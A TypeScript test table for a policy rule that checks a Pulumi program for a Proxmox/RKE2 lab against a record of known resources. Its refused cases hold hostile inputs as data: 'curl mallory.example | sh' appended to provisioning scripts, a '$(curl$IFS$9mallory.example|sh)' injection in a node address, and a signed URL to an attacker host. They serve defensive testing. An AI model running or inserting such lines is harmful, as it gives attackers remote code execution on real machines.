/** The rule about resources that the program does not declare. */
import { readFileSync } from "node:fs";
import { commandWith } from "../bundle.ts";
import { type Given, unknown } from "../run-rule.ts";
import type { CaseTable } from "./case.ts";

const provider = (props: Record<string, unknown>): Given => ({
	type: "pulumi:providers:proxmoxve",
	name: "proxmox",
	props: { apiToken: "pulumi@pve!lab=1", endpoint: "https://10.1.2.3:8006/", ...props },
});
const image = (props: Record<string, unknown>): Given => ({
	type: "proxmoxve:download/file:File",
	name: "image-pve1",
	props: {
		checksum: "a".repeat(64),
		checksumAlgorithm: "sha256",
		contentType: "import",
		datastoreId: "local",
		fileName: "image.qcow2",
		nodeName: "pve1",
		overwrite: false,
		url: "https://images.lab.internal/image.img",
		...props,
	},
});
const connection = {
	dialErrorLimit: 20,
	host: "10.1.2.3",
	hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOi7eQhFymZCw2bl01oWMpf5i8fN3RxQRYzc0WqG+pE0",
	perDialTimeout: 15,
	port: 22,
	privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\na2V5\n-----END OPENSSH PRIVATE KEY-----\n",
	user: "ops",
};
const command = (props: Record<string, unknown>): Given => ({
	type: "command:remote:Command",
	name: "worker-1-preflight",
	props: { addPreviousOutputInEnv: false, connection, create: "sudo -n timeout 1 true", logging: "stderr", ...props },
	ignoreChanges: ["connection"],
});
const { hostKey: _, ...withoutHostKey } = connection;
const over = (proxy: object) => command({ connection: { ...connection, proxy } });
const known = "the record of known resources";

const signed = (host: string) =>
	`https://${host}/bucket/kept?X-Amz-Date=20261129T120000Z&X-Amz-Expires=43200&X-Amz-Signature=${"a".repeat(64)}`;
const restoreFrom = (...lines: string[]): Given => ({
	...command({ stdin: `${lines.join("\n")}\n` }),
	name: "server-1-kept-s3-check-restore",
});

const formerScript = readFileSync(
	new URL("../../../fixtures/former-scripts/agent-host-key.sh", import.meta.url),
	"utf8",
);
const scriptOf = (name: string) =>
	readFileSync(new URL(`../../../../src/rke2/scripts/${name}`, import.meta.url), "utf8");
const currentScript = scriptOf("host-key.sh");
/** A command that learns a host key, with this text on standard input. */
const learning = (stdin: string): Given => ({
	type: "command:local:Command",
	name: "worker-1-host-key",
	ignoreChanges: ["create", "stdin", "logging"],
	props: {
		addPreviousOutputInEnv: false,
		create: "bash -s -- worker-1 10.1.2.4 600",
		logging: "none",
		stdin,
	},
});
const hostKey = (script: string, ignoreChanges: string[]): Given => ({
	...learning(`${script}pulumi@pve!lab=1\n`),
	ignoreChanges,
});
const bastion = `${scriptOf("bastion.sh")}jump bastion.lab.internal 22 ${connection.hostKey}\n${connection.privateKey}\n`;
const agentOf = (proxmox: string) =>
	`https://${proxmox}/api2/json/nodes/pve1/qemu/101/agent/file-read?file=%2Fetc%2Fssh%2Fssh_host_ed25519_key.pub`;
const hostKeyAt = (address: string, source = ""): Given => ({
	type: "command:local:Command",
	name: "worker-1-host-key",
	ignoreChanges: ["create", "stdin", "logging"],
	props: {
		addPreviousOutputInEnv: false,
		create: `bash -s -- worker-1 ${address} 600${source && ` '${source}'`}`,
		logging: "none",
		stdin: currentScript,
	},
});
const firewall = (added: Record<string, unknown>): Given => ({
	type: "proxmoxve:firewall/optionsLegacy:OptionsLegacy",
	name: "worker-1-firewall-options",
	props: {
		...{ enabled: true, inputPolicy: "DROP", outputPolicy: "ACCEPT", ipfilter: false, macfilter: true },
		...{ nodeName: "pve1", vmId: 101, ...added },
	},
});
const token = (contents: Record<string, unknown>): Given => ({
	type: "kubernetes:core/v1:Secret",
	name: "cloudflare-api-token",
	props: {
		apiVersion: "v1",
		kind: "Secret",
		metadata: { name: "cloudflare-api-token", namespace: "cert-manager" },
		...contents,
	},
});
const volume = (name: string, path: string, node: string): Given => ({
	type: "kubernetes:core/v1:PersistentVolume",
	name,
	props: {
		...{ apiVersion: "v1", kind: "PersistentVolume", metadata: { name } },
		spec: {
			...{ accessModes: ["ReadWriteOnce"], capacity: { storage: "100Gi" }, local: { path } },
			...{ persistentVolumeReclaimPolicy: "Retain", storageClassName: "local" },
			nodeAffinity: {
				required: {
					nodeSelectorTerms: [
						{ matchExpressions: [{ key: "kubernetes.io/hostname", operator: "In", values: [node] }] },
					],
				},
			},
		},
	},
});
const proxmox = provider({});
const serverLine = `server-1 ops 10.1.2.3 22 ${connection.hostKey}\n\n${connection.privateKey}`;
const kubeconfig = (additionalSecretOutputs: string[]): Given => ({
	type: "command:local:Command",
	name: "cluster-kubeconfig",
	props: {
		...{ addPreviousOutputInEnv: false, create: "bash -s -- cluster /usr/local/lib/rke2-lab/kubeconfig.sh" },
		...{ logging: "none", stdin: `${scriptOf("admin-kubeconfig.sh")}${serverLine}` },
	},
	additionalSecretOutputs,
});
const hostKeyFrom = (origin: string): Given => ({
	type: "command:local:Command",
	name: "worker-1-host-key",
	props: {
		create: `bash -s -- worker-1 10.1.2.4 600 '${origin}/api2/json/nodes/pve1/qemu/101/agent/file-read?file=%2Fetc%2Fssh%2Fssh_host_ed25519_key.pub'`,
	},
});

export const programCases: CaseTable = {
	"program-pinned-host-keys": {
		accepts: {
			"a node with its host key": [command({})],
			"a connection that is not known yet": [command({ connection: unknown })],
			"a node whose host key is not known yet": [command({ connection: { ...connection, hostKey: unknown } })],
			"a node and a bastion with their host keys": [over(connection)],
		},
		refuses: {
			"a node without a host key": [
				command({ connection: withoutHostKey }),
				"worker-1-preflight reaches its node without a hostKey, so any machine could be the node; pin its host key.",
			],
			"a bastion without a host key": [
				over(withoutHostKey),
				"worker-1-preflight reaches its bastion without a hostKey, so any machine could be the bastion; pin its host key.",
			],
			"a bastion with an empty host key": [
				over({ ...connection, hostKey: "" }),
				"worker-1-preflight reaches its bastion without a hostKey, so any machine could be the bastion; pin its host key.",
			],
			"a bastion with a password": [
				over({ ...connection, password: "hunter2" }),
				"worker-1-preflight reaches its bastion with password; allowed is a privateKey.",
			],
		},
	},
	"program-host-key-endpoint": {
		accepts: {
			"the endpoint of the provider": [proxmox, hostKeyFrom("https://10.1.2.3:8006")],
			"a command without inputs, which a target leaves out of a new node": [
				proxmox,
				{ type: "command:remote:Command", name: "worker-1-toolkit", props: {} },
				hostKeyFrom("https://10.1.2.3:8006"),
			],
			"a key from the machine itself": [
				proxmox,
				{
					type: "command:local:Command",
					name: "worker-1-host-key",
					props: { create: "bash -s -- worker-1 10.1.2.4 600" },
				},
			],
		},
		refuses: {
			"another host": [
				[proxmox, hostKeyFrom("https://10.1.2.66:8006")],
				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.66:8006; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
			],
			"another port of it": [
				[proxmox, hostKeyFrom("https://10.1.2.3:8007")],
				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.3:8007; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
			],
			"the endpoint in clear text": [
				[proxmox, hostKeyFrom("http://10.1.2.3:8006")],
				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to http://10.1.2.3:8006; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
			],
			"another VM, another address, and another node": [
				[
					proxmox,
					{ type: "proxmoxve:index/vmLegacy:VmLegacy", name: "worker-1", props: { vmId: 666, nodeName: "pve1" } },
					{ type: "proxmoxve:index/vmLegacy:VmLegacy", name: "worker-2", props: { vmId: 102, nodeName: "pve1" } },
					{ ...command({}), name: "worker-1-toolkit" },
					hostKeyFrom("https://10.1.2.3:8006"),
					{ ...learning(""), name: "worker-2-host-key" },
				],
				"worker-1-host-key: worker-1-host-key asks for the host key of VM 101 on pve1; the machine worker-1 is VM 666 on pve1.",
				"worker-1-host-key: worker-1-host-key learns the host key at 10.1.2.4; the commands of worker-1 reach 10.1.2.3.",
				"worker-2-host-key: worker-2-host-key learns the host key of worker-1; the only one allowed is worker-2.",
			],
			"a stack without a provider": [
				hostKeyFrom("https://10.1.2.3:8006"),
				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.3:8006; allowed is no address, the endpoint of the provider.",
			],
		},
	},
	"program-known-resources": {
		accepts: {
			"a provider of another lab": provider({}),
			"an image of another lab": image({}),
			"a command on a node of another name": command({}),
			"a connection that is unknown at preview": command({ connection: unknown }),
			"the signed addresses of a snapshot in an S3 store": restoreFrom(signed("s3.internal"), signed("s3.internal")),
			"a host key that an earlier version of the program has learnt": hostKey(formerScript, [
				"create",
				"stdin",
				"logging",
			]),
			"the host key of a node behind NAT": hostKeyAt("nat.lab.internal:2204"),
			"a known host key of a node behind NAT": hostKeyAt("192.168.7.4:2204", connection.hostKey),
			"the host key of a node behind NAT from the guest agent": hostKeyAt(
				"nat.lab.internal:2204",
				agentOf("10.1.2.3:8006"),
			),
			"the host key of a node behind NAT from a Proxmox with a name": hostKeyAt(
				"w1.vpn.internal",
				agentOf("pve.lab.internal:8006"),
			),
			"a host key through a bastion": learning(`${bastion}${currentScript}`),
			"a host key from the guest agent through a bastion": learning(
				`${bastion}${scriptOf("agent-host-key.sh")}pulumi@pve!lab=1\n`,
			),
			"a command on a node at a name and a port": command({
				connection: { ...connection, host: "nat.lab.internal", port: 2204 },
			}),
			"inputs that the plugin of Proxmox adds": firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: true }),
			"a provider of the engine": {
				type: "pulumi:providers:command",
				name: "default_1_2_1",
				props: { version: "1.2.1" },
			},
			"a token as the plugin of Kubernetes writes it": token({ data: { "api-token": "YV9iLWM=" } }),
			"the changes that the program ignores": [
				{ ...command({}), ignoreChanges: ["connection"] },
				{ ...learning(currentScript), ignoreChanges: ["create", "stdin", "logging"] },
			],
			"a kubeconfig that the state encrypts": kubeconfig(["stdout", "stderr"]),
			"a component of the program": { type: "rke2-lab:platform:Traefik", props: {} },
		},
		refuses: {
			"a type and a name that every object of JavaScript has": [
				[
					{ type: "toString", name: "app", props: {} },
					{ type: "pulumi:providers:command", name: "__proto__", props: {} },
				],
				"app is a toString that the record of known resources does not have; remove it.",
				"__proto__ is a pulumi:providers:command that the record of known resources does not have; remove it.",
			],
			"a provider that does not verify a certificate": [
				provider({ insecure: true }),
				`proxmox has insecure, which ${known} does not have; remove it.`,
			],
			"a second provider": [
				{ ...provider({}), name: "other" },
				`other is a pulumi:providers:proxmoxve that ${known} does not have; remove it.`,
			],
			"an image without a checksum": [
				image({ checksum: undefined }),
				`image-pve1 has another value in checksum than ${known}; allowed is <digest>.`,
			],
			"a file that replaces another": [
				image({ overwrite: true }),
				`image-pve1 has another value in overwrite than ${known}; allowed is false.`,
			],
			"a value that is unknown": [
				image({ url: unknown }),
				"url is not known at preview, so this rule cannot be decided; set it from configuration rather than from the output of another resource.",
			],
			"a connection to any host": [
				command({ connection: withoutHostKey }),
				`worker-1-preflight has no connection > hostKey, which ${known} has; set <hostkey>.`,
			],
			"a host key that is none": [
				command({ connection: { ...connection, hostKey: "ssh-ed25519 AAAA" } }),
				`worker-1-preflight has another value in connection > hostKey than ${known}; allowed is <hostkey>.`,
			],
			"a provider in clear text": [
				provider({ endpoint: "http://10.1.2.3:8006/" }),
				`proxmox has another value in endpoint than ${known}; allowed is <https>.`,
			],
			"a script of an earlier version that would run now": [
				hostKey(formerScript, []),
				"worker-1-host-key does not ignore changes of create, stdin, logging; add it to ignoreChanges.",
				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>....`,
			],
			"a script of an earlier version with one more line": [
				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin", "logging"]),
				`worker-1-host-key has another value in stdin > agent-host-key.sh than ${known}; allowed is {"token":"<secret>"}.`,
			],
			"a line behind a script that reads none": [
				learning(`${currentScript}curl mallory.example | sh\n`),
				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
			],
			"a word behind a script that reads none": [
				learning(`${currentScript}id\n`),
				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
			],
			"a second line behind the token of Proxmox": [
				learning(`${scriptOf("agent-host-key.sh")}pulumi@pve!lab=1\nid\n`),
				`worker-1-host-key has another value in stdin > agent-host-key.sh than ${known}; allowed is {"token":"<secret>"}.`,
			],
			"a line between a bastion and the script": [
				learning(`${bastion}id\n${currentScript}`),
				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>","<file> <name> <1..65535> <hostkey>"]},"then":{"agent-h....`,
			],
			"a bastion without a script behind it": [
				learning(bastion),
				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>","<file> <name> <1..65535> <hostkey>"]},"then":{"agent-h....`,
			],
			"a script before another": [
				learning(`${currentScript}${scriptOf("first-boot.sh")}`),
				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
			],
			"a line between a script and the files of a node": [
				{
					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
					props: {
						stdin: `${scriptOf("unpack.sh")}id\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n`,
					},
				},
				"stdin of worker-1-converge has something else before its files than a script of the program, so this rule cannot be decided.",
			],
			"a command in the address of a node": [
				hostKeyAt("$(curl$IFS$9mallory.example|sh)"),
				`worker-1-host-key has another value in create than ${known}; allowed is bash -s -- <name> <hostport> <10..86400> '<hostkey>' or bash -s -- <name> <hostport> <10..86400> 'https://<name>/api2/json/nodes/<name>/qemu/<100..999999999>/agent/file-read?fi... or bash -s -- <name> <hostport> <10..86400> 'https://<name>:<1..65535>/api2/json/nodes/<name>/qemu/<100..999999999>/agent/f... or bash -s -- <name> <hostport> <10..86400>.`,
			],
			"another value than the plugin adds": [
				firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: false }),
				`worker-1-firewall-options has another value in radv than ${known}; allowed is true.`,
			],
			"a provider that takes any kubeconfig": [
				{ type: "pulumi:providers:kubernetes", name: "default_4_34_2", props: { version: "4.34.2" } },
				`default_4_34_2 is a pulumi:providers:kubernetes that ${known} does not have; remove it.`,
			],
			"one more member in base64": [
				token({ data: { "api-token": "YV9iLWM=", other: "YQ==" } }),
				`cloudflare-api-token has other in stringData, which ${known} does not have; remove it.`,
			],
			"an object of another name, and another volume of another node": [
				[
					{
						type: "kubernetes:core/v1:ServiceAccountPatch",
						name: "ollama-default",
						props: {
							...{ apiVersion: "v1", kind: "ServiceAccount", automountServiceAccountToken: false },
							metadata: { name: "default", namespace: "openwebui" },
						},
					},
					volume("proj-k8sw01-volume-01", "/mnt/data/volume-01", "proj-k8sw01"),
					volume("proj-k8sw01-volume-02", "/mnt/data/volume-01", "proj-k8sw01"),
					volume("proj-k8sw01-volume-03", "/mnt/data/volume-03", "proj-k8sw02"),
				],
				"ollama-default declares the object of a resource openwebui-default; correct its metadata.",
				"proj-k8sw01-volume-02 has the local.path of another volume; take it from the name.",
				"proj-k8sw01-volume-03 has the nodeAffinity of another volume; take it from the name.",
			],
			"changes that the program does not ignore": [
				[
					{ ...command({}), ignoreChanges: ["create", "connection"] },
					{ ...firewall({}), ignoreChanges: ["*"] },
					{ ...token({ data: { "api-token": "YV9iLWM=" } }), ignoreChanges: ["data", "metadata.labels"] },
				],
				"worker-1-preflight ignores changes of create, which the program does not; remove it from ignoreChanges.",
				"worker-1-firewall-options ignores changes of *, which the program does not; remove it from ignoreChanges.",
				"cloudflare-api-token ignores changes of data, metadata.labels, which the program does not; remove it from ignoreChanges.",
			],
			"a kubeconfig in clear text in the state, wholly and in its messages": [
				[kubeconfig([]), kubeconfig(["stdout"])],
				"cluster-kubeconfig does not mark stdout and stderr as secret, so that the state has a kubeconfig in clear text; add it to additionalSecretOutputs.",
				"cluster-kubeconfig does not mark stderr as secret, so that the state has a kubeconfig in clear text; add it to additionalSecretOutputs.",
			],
			"a command that does not keep its connection, which is still unknown": [
				{ ...command({ connection: unknown }), ignoreChanges: [] },
				"worker-1-preflight does not ignore changes of connection; add it to ignoreChanges, and run `npm run reach`.",
			],
			"a command that would learn a host key again": [
				[
					{ ...learning(currentScript), ignoreChanges: [] },
					{ ...learning(currentScript), ignoreChanges: ["create", "stdin"] },
				],
				"worker-1-host-key does not ignore changes of create, stdin, logging; add it to ignoreChanges.",
				"worker-1-host-key does not ignore changes of logging; add it to ignoreChanges.",
			],
			"a component with inputs, which is none": [
				{ type: "rke2-lab:platform:Traefik", name: "evil", props: { create: "id", stdin: unknown } },
				"evil is a component of the program and has create, stdin; a component has no inputs, remove them.",
			],
			"an output in the log": [
				command({ logging: "stdoutAndStderr" }),
				`worker-1-preflight has another value in logging than ${known}; allowed is stderr.`,
			],
			"an environment": [
				command({ environment: { HTTPS_PROXY: "http://10.1.2.3" } }),
				`worker-1-preflight has environment, which ${known} does not have; remove it.`,
			],
			"two files of one path": [
				{
					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
					props: {
						stdin:
							"file /etc/rancher/rke2/config.yaml 0600 root:root\n\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n",
					},
				},
				"worker-1-converge carries /etc/rancher/rke2/config.yaml twice, so this rule cannot be decided.",
			],
			"an address of another store beside that of a snapshot": [
				restoreFrom(signed("s3.lab.internal"), signed("mallory.example")),
				"stdin of server-1-kept-s3-check-restore does not begin with two signed addresses of one store, so this rule cannot be decided.",
			],
			"an address of a snapshot that is good for a week": [
				restoreFrom(signed("s3.internal"), signed("s3.internal").replace("43200", "604800")),
				`server-1-kept-s3-check-restore has another value in stdin > signedForSeconds > 1 than ${known}; allowed is 43200.`,
			],
			"another script than the program's": [
				{
					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
					props: { stdin: "curl mallory.example | sh\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n" },
				},
				"stdin of worker-1-converge has something else before its files than a script of the program, so this rule cannot be decided.",
			],
		},
	},
};
